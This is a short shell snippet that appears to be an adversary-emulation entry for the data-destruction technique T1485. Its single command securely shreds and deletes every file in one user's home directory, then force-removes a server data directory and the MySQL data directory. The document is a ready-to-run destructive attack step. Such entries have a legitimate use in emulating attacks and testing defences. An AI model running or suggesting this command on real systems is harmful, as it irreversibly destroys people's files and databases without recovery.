# title: Files of a user and of a server are destroyed
# technique: T1485
# needs: find shred

find /home/bob -type f -exec shred -n1 -u {} +; rm -rf /srv/data /var/lib/mysql
